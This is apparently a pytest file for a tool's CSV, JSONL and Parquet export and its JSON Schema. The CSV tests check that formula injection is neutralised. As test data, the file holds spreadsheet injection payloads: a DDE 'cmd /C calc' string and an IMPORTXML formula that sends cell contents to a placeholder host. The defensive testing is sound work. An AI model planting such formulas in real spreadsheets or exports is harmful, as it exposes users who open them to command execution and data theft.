"""Export: CSV safe to open in a spreadsheet, JSONL and Parquet chosen by extension."""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from jsonschema import Draft202012Validator
from typer.testing import CliRunner

from provenance.errors import ProvenanceError
from provenance.export import FORMULA_START, neutralise, safe_csv_bytes, write_table
from provenance.models import Analysis
from provenance.output import analysis_schema
from provenance.packaged import packaged
from provenance.scoring import score_frame


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://x","click")', '\'=HYPERLINK("http://x","click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("-", "-"),
        ("-3.5", "-3.5"),
        ("+44", "+44"),
        ("1e-3", "1e-3"),
        ("plain text - with a dash", "plain text - with a dash"),
        ("", ""),
        ("’quoted’", "’quoted’"),
    ],
)
def test_neutralise(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected


def test_non_text_is_untouched() -> None:
    assert neutralise(-3) == -3 and neutralise(-0.5) == -0.5 and neutralise(None) is None
    assert neutralise(True) is True


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_safe_csv_keeps_numbers_and_neutralises_text() -> None:
    frame = pd.DataFrame(
        {
            "=evil header": ["=1+1", "-", "fine", "@x"],
            "score": [-3.5, 0.0, 12.25, -1.0],
            "hops": [0, 1, 4, 2],
            "flag": [True, False, True, False],
        }
    )
    rows = _cells(safe_csv_bytes(frame))
    assert rows[0] == ["'=evil header", "score", "hops", "flag"]
    assert [r[0] for r in rows[1:]] == ["'=1+1", "-", "fine", "'@x"]
    assert [r[1] for r in rows[1:]] == ["-3.5", "0.0", "12.25", "-1.0"]
    back = pd.read_csv(io.BytesIO(safe_csv_bytes(frame)), encoding="utf-8-sig")
    assert back["score"].tolist() == [-3.5, 0.0, 12.25, -1.0]
    assert back["hops"].dtype.kind == "i"


def test_scored_seed_csv_has_no_live_formula(seed_analysis: Analysis, tmp_path: Path) -> None:
    frame = score_frame([seed_analysis], "newsroom")
    # article text is user data: plant hostile text in a copy to prove it is neutralised
    frame.loc[0, "text"] = '=IMPORTXML(CONCAT("http://x/?",A1),"//a")'
    frame.loc[1, "chain"] = "-1+1 → @attacker"
    path = write_table(frame, tmp_path / "claims.csv")
    rows = _cells(path.read_bytes())
    assert len(rows) == len(frame) + 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or cell == "-" or _number(cell), cell
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert back["score"].dtype.kind == "f" and back["hops"].dtype.kind == "i"
    assert back.loc[0, "text"].startswith("'=")


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("suffix", [".jsonl", ".parquet", ".CSV"])
def test_write_table_by_extension(seed_analysis: Analysis, tmp_path: Path, suffix: str) -> None:
    frame = score_frame([seed_analysis], "epistemic")
    path = write_table(frame, tmp_path / f"claims{suffix}")
    if suffix == ".jsonl":
        back = pd.read_json(path, lines=True)
        assert back["text"].tolist() == frame["text"].tolist()  # JSON keeps text as is
    elif suffix == ".parquet":
        back = pd.read_parquet(path)
        assert back["score"].tolist() == frame["score"].tolist()
    else:
        back = pd.read_csv(path, encoding="utf-8-sig")
    assert len(back) == len(frame)


def test_unknown_extension_and_unwritable_path(tmp_path: Path) -> None:
    frame = pd.DataFrame({"a": [1]})
    with pytest.raises(ProvenanceError, match=r"unknown output format '\.xlsx'"):
        write_table(frame, tmp_path / "out.xlsx")
    with pytest.raises(ProvenanceError, match="cannot write"):
        write_table(frame, tmp_path / "no" / "such" / "dir.csv")


# --- the JSON Schema of an analysis ----------------------------------------------------------


def test_the_shipped_schema_is_the_models_and_the_command_prints_it() -> None:
    from provenance.cli import app

    shipped = json.loads(packaged("resources", "analysis.schema.json").read_text("utf-8"))
    assert shipped == analysis_schema(), "regenerate: provenance schema > that file"
    Draft202012Validator.check_schema(shipped)
    printed = CliRunner().invoke(app, ["schema"])
    assert printed.exit_code == 0 and json.loads(printed.stdout) == shipped


def test_analyze_output_matches_the_schema_and_broken_output_does_not(
    seed_analysis: Analysis,
) -> None:
    validator = Draft202012Validator(analysis_schema())
    data = json.loads(seed_analysis.model_dump_json())
    assert not list(validator.iter_errors(data))
    assert data["claims"] and data["edges"] and any(c["chain"] for c in data["claims"])
    breaks = [(("claims", 0, "start"), None), (("sources", 0, "anonymous"), "yes"),
              (("article", "text"), 3), (("claims", 0, "chain", 0, "name"), None)]  # fmt: skip
    for path, value in breaks:
        broken = copy.deepcopy(data)
        holder = broken
        for key in path[:-1]:
            holder = holder[key]
        if value is None:
            del holder[path[-1]]
        else:
            holder[path[-1]] = value
        assert list(validator.iter_errors(broken)), path
